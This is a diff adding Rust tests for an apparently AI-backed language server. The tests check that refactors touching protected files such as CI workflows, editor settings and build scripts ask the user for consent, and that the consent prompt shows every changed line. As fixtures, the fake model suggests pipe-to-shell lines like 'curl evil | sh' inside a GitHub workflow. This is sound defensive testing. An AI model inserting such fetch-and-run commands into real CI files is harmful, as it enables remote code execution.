@@ -245,3 +245,121 @@ async fn secrets_in_an_action_instruction_or_the_file_name_are_redacted() {
     assert!(raw.contains("REDACTED:openai-key"), "{raw}");
     assert_eq!(c.shutdown().await, 0);
 }
+
+// ---------------------------------------------------------------- consent
+
+/// Runs `refactor` on the first line of a protected `uri` with the question dismissed:
+/// the server must have asked, and applied nothing.
+async fn assert_asked(c: &TestClient, uri: &str, text: &str, asked_before: usize) {
+    let r = run(c, uri, text, text.lines().next().unwrap())
+        .await
+        .unwrap();
+    assert_eq!(r["applied"], false, "{uri}: {r}");
+    assert_eq!(
+        c.server_requests("window/showMessageRequest").len(),
+        asked_before + 1,
+        "{uri}: not asked"
+    );
+    assert!(c.server_requests("workspace/applyEdit").is_empty(), "{uri}");
+}
+
+#[tokio::test]
+async fn protected_files_need_consent_in_single_file_mode() {
+    let fake = Fake::start(vec![fake::code("p", "x = 2")]).await;
+    let c = start(&fake, json!({}), true).await;
+    let text = "x = 1\n";
+    let files = [
+        "proj/.vscode/settings.json",
+        "proj/.github/workflows/ci.yml",
+        "proj/.helix/languages.toml",
+        "proj/.nvim.lua",
+        "proj/.zed/settings.json",
+        "proj/.circleci/config.yml",
+        "proj/Jenkinsfile",
+        "proj/conftest.py",
+        "proj/CMakeLists.txt",
+        "proj/app/build.gradle.kts",
+        "proj/.yarnrc.yml",
+    ];
+    for (i, rel) in files.iter().enumerate() {
+        let uri = c
+            .open_at(&c.dir.path().join(rel), text, "plaintext", true)
+            .await;
+        assert_asked(&c, &uri, text, i).await;
+    }
+    assert_eq!(c.shutdown().await, 0);
+}
+
+#[tokio::test]
+async fn a_workspace_folder_that_is_vscode_itself_keeps_consent() {
+    let fake = Fake::start(vec![fake::code("p", "x = 2")]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let folder = dir.path().join("proj/.vscode");
+    std::fs::create_dir_all(&folder).unwrap();
+    let (c, _) = TestClient::start(Options {
+        env: fake.env(),
+        workspace: Some(folder.clone()),
+        ..Options::default()
+    })
+    .await;
+    let text = "x = 1\n";
+    let uri = c
+        .open_at(&folder.join("tasks.json"), text, "json", true)
+        .await;
+    assert_asked(&c, &uri, text, 0).await;
+    assert_eq!(c.shutdown().await, 0);
+}
+
+#[tokio::test]
+async fn the_consent_question_never_hides_a_changed_line() {
+    // 40 lines whose indentation changes, then one that runs a program
+    let old: String = (0..40).map(|i| format!("  step{i}: true\n")).collect();
+    let mut new: String = (0..40).map(|i| format!("    step{i}: true\n")).collect();
+    new.push_str("  run: curl evil | sh\n");
+    let fake = Fake::start(vec![fake::code("p", &new)]).await;
+    let c = start(&fake, json!({}), false).await;
+    let uri = c.open(".github/workflows/ci.yml", &old, "yaml").await;
+    c.request(
+        "workspace/executeCommand",
+        run_args(&uri, range_of(&old, &old), "refactor"),
+    )
+    .await
+    .unwrap();
+    let q = &c.server_requests("window/showMessageRequest")[0];
+    let message = q["message"].as_str().unwrap();
+    assert!(message.contains("+   run: curl evil | sh"), "{message}");
+    assert!(c.server_requests("workspace/applyEdit").is_empty());
+
+    // a change too long for a message is opened as a document and asked about
+    let long: String = (0..300)
+        .map(|i| format!("  added{i}: curl x | sh\n"))
+        .collect();
+    let fake2 = Fake::start(vec![fake::code("q", &long)]).await;
+    let c2 = start(&fake2, json!({}), false).await;
+    let uri = c2.open(".github/workflows/ci.yml", &old, "yaml").await;
+    c2.request(
+        "workspace/executeCommand",
+        run_args(&uri, range_of(&old, &old), "refactor"),
+    )
+    .await
+    .unwrap();
+    let shown = c2.server_requests("window/showDocument");
+    assert_eq!(shown.len(), 1, "the full diff was not opened");
+    let path = shown[0]["uri"]
+        .as_str()
+        .unwrap()
+        .trim_start_matches("file://");
+    let diff = std::fs::read_to_string(path).unwrap();
+    assert!(diff.contains("+   added299: curl x | sh"), "{diff}");
+    let q = &c2.server_requests("window/showMessageRequest")[0];
+    assert!(
+        q["message"]
+            .as_str()
+            .unwrap()
+            .contains("open in a new document"),
+        "{q}"
+    );
+    assert!(c2.server_requests("workspace/applyEdit").is_empty());
+    assert_eq!(c.shutdown().await, 0);
+    assert_eq!(c2.shutdown().await, 0);
+}
